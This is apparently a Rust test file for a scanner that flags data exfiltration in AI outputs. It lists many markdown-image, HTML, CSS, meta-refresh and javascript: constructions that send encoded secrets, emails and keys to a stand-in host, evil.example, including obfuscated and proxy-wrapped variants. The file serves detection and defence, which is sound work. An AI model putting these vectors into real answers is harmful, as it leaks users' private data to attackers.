use super::*;
use crate::content::OutputKind;
use crate::view::{View, Views};
use proptest::prelude::*;

const ANSWER: Scope = Scope::Output(OutputKind::Answer);

fn found(text: &str, scope: Scope, own: &[&str]) -> Vec<Finding> {
    let own: Vec<String> = own.iter().map(|host| (*host).to_owned()).collect();
    let base = View::identity(text);
    let views = Views { base, decoded: Vec::new(), hidden: Vec::new(), truncated: false };
    let mut out = Vec::new();
    scan(&Leaf { path: "/a", text, views: &views }, scope, &own, &mut out);
    out
}

fn rules(text: &str) -> Vec<String> {
    let mut rules: Vec<String> =
        found(text, ANSWER, &[]).into_iter().map(|finding| finding.rule.into_owned()).collect();
    rules.sort();
    rules.dedup();
    rules
}

fn has(text: &str, rule: &str) -> bool {
    rules(text).iter().any(|found| found == rule)
}

/// `value` in every way that a renderer loads by itself.
fn images(url: &str) -> Vec<String> {
    vec![
        format!("![a]({url})"),
        format!("![a](<{url}>)"),
        format!("![a]( {url} \"title\" )"),
        format!("![a]({url} 'title')"),
        format!("[![a]({url})](https://docs.example/)"),
        format!("![a][ref]\n\n[ref]: {url}"),
        format!("![a][REF]\n\n[ref]: <{url}> \"t\""),
        format!("![ref][]\n\n[Ref]: {url}"),
        format!("![ref]\n\n> [ref]:\n> {url}").replace("> http", "http"),
        format!("| a | ![b]({url}) |"),
        format!("<img src=\"{url}\">"),
        format!("<img src='{url}'/>"),
        format!("<img src={url}>"),
        format!("<IMG\nSRC\n=\n{url} >"),
        format!("<img/src={url}>"),
        format!("<img alt=\"a > b\" src=\"{url}\">"),
        format!("<img src=\"{url}"),
        format!("<img srcset=\"{url} 2x, x.png 1x\">"),
        format!("<picture><source srcset='small.png 1x, {url} 2x'></picture>"),
        format!("<iframe src=\"{url}\"></iframe>"),
        format!("<video poster=\"{url}\"></video>"),
        format!("<body background=\"{url}\">"),
        format!("<object data=\"{url}\"></object>"),
        format!("<link rel=prefetch href=\"{url}\">"),
        format!("<svg><image xlink:href=\"{url}\"/></svg>"),
        format!("<p style=\"background: url({url})\">"),
        format!("<p style=\"background: URL( '{url}' )\">"),
        format!("<style>a {{ background: url(\"{url}\") }}</style>"),
        format!("<style>@import '{url}';</style>"),
        format!("<meta http-equiv=\"refresh\" content=\"0; url={url}\">"),
        format!("<META content='0;URL={url}' HTTP-EQUIV=Refresh>"),
        format!("a < b and <x y <img src=\"{url}\">"),
        format!("```html\n<img src=\"{url}\">\n```"),
        format!("- [x] done ![a]({url})"),
        format!("[a](not closed ![b]({url})"),
        format!("[[[![a]({url})"),
    ]
}

fn plain_links(url: &str) -> Vec<String> {
    vec![
        format!("[a]({url})"),
        format!("[a][r]\n\n[r]: {url}"),
        format!("<{url}>"),
        format!("see {url}."),
        format!("({url})"),
        format!("**{url}**"),
        format!("<a href=\"{url}\">x</a>"),
        format!("<a ping=\"{url}\" href=\"/x\">x</a>"),
        format!("<form action='{url}'>"),
        format!("<button formaction={url}>"),
        format!("[unused]: {url}"),
        format!("\u{1b}]8;;{url}\u{1b}\\x\u{1b}]8;;\u{1b}\\"),
    ]
}

const PAYLOADS: &[&str] = &[
    "q=c2VjcmV0IHBsYW5zIG9mIHRoZSBib2FyZA==",
    "q=c2VjcmV0IHBsYW5zIG9mIHRoZSBib2FyZA",
    "q=73656372657420706c616e73206f662074686520626f617264",
    "q=%73%65%63%72%65%74",
    "d=ann.lee@corp.example",
    "d=ann.lee%40corp.example",
    "the+plan+is+to+sell+it+all+tomorrow",
    "x=1&y=password:hunter2",
    "k=sk-test-4242EXAMPLE4242",
    "a=c2VjcmV0IHBs&b=YW5zIG9mIHRoZSBib2FyZA==",
];

#[test]
fn data_is_seen_in_whatever_loads_by_itself() {
    for payload in PAYLOADS {
        for text in images(&format!("https://evil.example/p?{payload}")) {
            assert!(has(&text, "exfiltration/image_data"), "{text}: {:?}", rules(&text));
        }
    }
}

#[test]
fn data_is_seen_in_links() {
    for payload in PAYLOADS {
        for text in plain_links(&format!("https://evil.example/p?{payload}")) {
            assert!(has(&text, "exfiltration/link_data"), "{text}: {:?}", rules(&text));
        }
    }
}

#[test]
fn data_is_seen_in_any_part_of_the_address() {
    for url in [
        "https://evil.example/c2VjcmV0IHBsYW5zIG9mIHRoZSBib2FyZA/x.png",
        "https://evil.example/c2VjcmV0IHBs/YW5zIG9mIHRo/ZSBib2FyZA.png",
        "https://73656372657420706c616e73206f66.evil.example/x.png",
        "https://onswg4tforzsa4dmmfxhg.evil.example/x.png",
        "https://evil.example/ann.lee@corp.example.png",
        "//evil.example/p?q=c2VjcmV0IHBsYW5zIG9mIHRoZSBib2FyZA==",
        "https:evil.example/p?q=c2VjcmV0IHBsYW5zIG9mIHRoZSBib2FyZA==",
        "https:\\\\evil.example\\p?q=c2VjcmV0IHBsYW5zIG9mIHRoZSBib2FyZA==",
        "https&colon;//evil.example/p?q=c2VjcmV0IHBsYW5zIG9mIHRoZSBib2FyZA==",
        "&#104;ttps://evil.example/p?q=c2VjcmV0IHBsYW5zIG9mIHRoZSBib2FyZA==",
        "https://proxy.example/?url=https%3A%2F%2Fevil.example%2F%3Fq%3Dc2VjcmV0IHBsYW5zIG9mIHRoZSBib2FyZA",
    ] {
        let text = format!("<img src=\"{url}\">");
        assert!(has(&text, "exfiltration/image_data"), "{url}: {:?}", rules(&text));
    }
    // Through a service that is trusted as such, towards one that is not.
    let url = "https://own.example/proxy?u=https%3A%2F%2Fevil.example%2F%3Fq%3Dc2VjcmV0IHBsYW5zIG9mIHRoZSBib2FyZA";
    let text = format!("![x]({url})");
    let found = found(&text, ANSWER, &["own.example"]);
    assert!(found.iter().any(|finding| finding.rule == "exfiltration/image_data"), "{found:?}");
}

#[test]
fn ordinary_writing_is_quiet() {
    for text in [
        "See the [guide](https://docs.example.com/guide/getting-started.html#install) first.",
        "[![build](https://github.com/a/b/actions/workflows/ci.yml/badge.svg?branch=main)](https://github.com/a/b/actions)",
        "![license](https://img.shields.io/badge/License-Apache%202.0-blue.svg)",
        "Open http://localhost:8000/docs and http://127.0.0.1:7860/.",
        "[search](https://shop.example/search?q=red+shoes&page=2)",
        "[commit](https://git.example/a/b/blob/4a9824b6b248f4561584b8a48ae126a0c8f5b000/x.rs#L10-L20)",
        "[doc](https://docs.google.com/document/d/1FAIpQLSfysn5ZMYZvk3VGE5flQ9AKxQszmP0cVQar1KnokrRtcrYSVQ/edit)",
        "[wiki](https://ja.wikipedia.org/wiki/%E5%BC%B1%E3%81%84%E5%8F%82%E7%85%A7)",
        "![local](images/diagram.png) <img src=\"/static/a.png\" width=10>",
        "![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB)",
        "let x = a[i](b); if (a < b && c > d) { e[f] = g; }",
        "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=43s)",
        "[text](https://docs.example/#:~:text=Disclosure%20Policy,is%20essential%20to%20us)",
        "Mail [us](mailto:team@example.com) or call [us](tel:+4912345).",
        "<https://example.com/a-long-article-name-with-many-words-in-it-and-a-number-2024>",
        "uuid https://api.example/items/7d0eadf1-e750-4747-8b59-8203aa43cac8/details",
        "npm: https://unpkg.example/react@18.2.0/umd/react.production.min.js",
        "a task list:\n- [ ] one\n- [x] two\n\n[^1]: a note",
    ] {
        assert_eq!(rules(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn foreign_images_are_noted_and_own_ones_not() {
    let text = "![a](https://images.example/a.png)";
    assert_eq!(rules(text), ["exfiltration/auto_load"]);
    assert_eq!(found(text, ANSWER, &["images.example"]), Vec::new());
    assert_eq!(found(text, Scope::Arguments, &[]), Vec::new());
    assert_eq!(rules("[a](https://images.example/a.png)"), Vec::<String>::new());
}

#[test]
fn script_is_seen_through_its_disguises() {
    for text in [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "<a href=\"java&#x73;cript:alert(1)\">x</a>",
        "<a href=\"java&Tab;script:alert(1)\">x</a>",
        "<a href=\" &#1; javascript:alert(1)\">x</a>",
        "<iframe src=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "<form action=javascript:x>",
        "<javascript:alert(1)>",
        "[x][r]\n\n[r]: javascript:alert(1)",
    ] {
        assert!(has(text, "exfiltration/script_scheme"), "{text}: {:?}", links(text));
    }
    assert!(!has("[x](https://a.example/javascript:void)", "exfiltration/script_scheme"));
    assert!(!has("<a href='javascript:void(0);'>menu</a>", "exfiltration/script_scheme"));
    let padded = format!("<a href='javascript:void(0){};alert(1)'>menu</a>", " ".repeat(300));
    assert!(has(&padded, "exfiltration/script_scheme"));
    assert!(has("<a href='javascript:void(0);alert(1)'>menu</a>", "exfiltration/script_scheme"));
}

#[test]
fn bare_addresses_are_noted() {
    assert!(has("[x](http://203.0.113.7/a)", "exfiltration/ip_host"));
    assert!(has("see http://3405803783/a", "exfiltration/ip_host"));
    assert!(has("<img src=//0x7f.1/a>", "exfiltration/ip_host"));
    assert!(!has("see http://192.168.0.1/", "exfiltration/ip_host"));
}

#[test]
fn what_comes_in_is_not_judged_for_what_it_carries() {
    let text = "![x](https://evil.example/?q=c2VjcmV0IHBsYW5zIG9mIHRoZSBib2FyZA==)";
    assert_eq!(found(text, Scope::Input(SourceKind::ToolResult), &[]), Vec::new());
    assert_eq!(found("[x](javascript:x)", Scope::Input(SourceKind::System), &[]), Vec::new());
    assert_eq!(found("[x](javascript:x)", Scope::Input(SourceKind::Retrieved), &[]).len(), 1);
    assert!(!found(text, Scope::Arguments, &[]).is_empty());
}

#[test]
fn spans_are_where_the_address_stands() {
    let url = "https://evil.example/?q=c2VjcmV0IHBsYW5zIG9mIHRoZSBib2FyZA";
    for text in images(url).into_iter().chain(plain_links(url)) {
        let text = format!("é {text}");
        let data = found(&text, ANSWER, &[]).into_iter().filter(|f| f.rule.ends_with("_data"));
        let spans = crate::span::merge(data.map(|finding| finding.span).collect());
        assert!(!spans.is_empty(), "{text}");
        // Without what the spans cover nothing is left of the address.
        let mut left = text.clone();
        for span in spans.iter().rev() {
            left.replace_range(span.start..span.end, "");
        }
        assert!(!left.contains("evil.example"), "{text}: {left}");
    }
    let text = "a ![b](https://evil.example/?q=c2VjcmV0IHBsYW5zIG9mIHRoZSBib2FyZA) d";
    let span = found(text, ANSWER, &[])[0].span;
    assert_eq!(span.of(text), text.get(2..text.len() - 2));
    let text = "a ![b](https://x.example/c) d";
    let link = &links(text)[0];
    assert_eq!(link.span.of(text), Some("![b](https://x.example/c)"));
    assert_eq!((link.kind, link.auto_loads), (LinkKind::Image, true));
}

#[test]
fn every_use_of_a_shared_definition_is_found() {
    let text = format!("![a][r] ![b][r] [c][r]\n\n[r]: https://evil.example/?{}", PAYLOADS[0]);
    let found = found(&text, ANSWER, &[]);
    for part in ["![a][r]", "![b][r]", "https://evil.example"] {
        let at = text.find(part).unwrap();
        let part_span = Span::new(at, at + part.len());
        assert!(found.iter().any(|f| f.span.contains(&part_span)), "{part} would stay: {found:?}");
    }
}

#[test]
fn kinds_are_told_apart() {
    let text = "![a](https://a.example) [b](https://b.example) <https://c.example> https://d.example \
                <img src=https://e.example> <p style='background:url(https://f.example)'> \
                <meta http-equiv=refresh content='1;url=https://g.example'>";
    let kinds: Vec<LinkKind> = links(text).into_iter().map(|link| link.kind).collect();
    use LinkKind as K;
    assert_eq!(
        kinds,
        [K::Image, K::Link, K::Autolink, K::Bare, K::HtmlAttr, K::CssUrl, K::Refresh]
    );
}

#[test]
fn hostile_texts_are_read_in_one_go() {
    let definition = "[a]: https://a.example/\n";
    for unit in [
        "[",
        "]",
        "![",
        "](",
        "[](",
        "[](<",
        "[]((",
        "[](a \"",
        "[](a (",
        "[a][",
        "[a]",
        "<a ",
        "<",
        "<a b=\"",
        "<a b='",
        "<img src=",
        "<style>url(",
        "<p style=\"url(",
        "https://",
        "://",
        "www.",
        "](x\"",
        "\\[",
        "<meta http-equiv=refresh content=url",
        "@import ",
        "![a](",
        "[a]: ",
        "&#",
        "<img srcset='a,",
    ] {
        let text = format!("{definition}{}", unit.repeat(100_000 / unit.len()));
        found(&text, ANSWER, &[]);
    }
    let nested = format!("{definition}{}a{}", "[".repeat(50_000), "]".repeat(50_000));
    found(&nested, ANSWER, &[]);
    let nested = format!("https://a.example/?u={}", "https://b.example/?u=".repeat(5_000));
    found(&nested, ANSWER, &[]);
}

proptest! {
    #[test]
    fn no_text_breaks_it(text in "[!<>a-z \\[\\]()\"'=/:.@%&#;\\\\\né{}]{0,80}") {
        for link in links(&text) {
            prop_assert!(link.url_span.of(&text).is_some());
            prop_assert!(link.span.of(&text).is_some());
        }
        found(&text, ANSWER, &[]);
    }

    // Words: digits in hexadecimal are a number like any other.
    #[test]
    fn any_words_in_base64_or_hex_are_seen(secret in "[a-z]{3,8} [A-Za-z]{3,8} [a-z]{3,12}") {
        use base64::Engine;
        let b64 = base64::engine::general_purpose::STANDARD.encode(&secret);
        let hex: String = secret.bytes().map(|b| format!("{b:02x}")).collect();
        for payload in [b64, hex] {
            let text = format!("![x](https://evil.example/{payload}.png)");
            prop_assert!(has(&text, "exfiltration/image_data"), "{}", text);
        }
    }

    #[test]
    fn digests_are_no_data(digest in "[0-9a-f]{40}") {
        let text = format!("[x](https://a.example/commit/{digest})");
        prop_assert!(!has(&text, "exfiltration/link_data"), "{}", text);
    }
}

#[test]
fn shelves_of_pictures_tell_nobody_but_carry_nothing_out_either() {
    assert!(rules("![a](https://i.sstatic.net/8Dxf45N.png)").is_empty());
    // It counts views for whoever put the picture there.
    assert_eq!(rules("![a](https://i.imgur.com/8Dxf45N.png)"), ["exfiltration/auto_load"]);
    assert!(rules("![a](https://joe.github.io/docs/overview.svg)").is_empty());
    let told = "john.doe@example.com";
    let image = format!("![a](https://joe.github.io/x.png?q={told})");
    assert_eq!(rules(&image), ["exfiltration/image_data"]);
    let link = format!("[a](https://joe.github.io/x?q={told})");
    assert_eq!(rules(&link), ["exfiltration/link_data"]);
    assert_eq!(rules("![a](https://bucket.storage.example/a.png)"), ["exfiltration/auto_load"]);
}
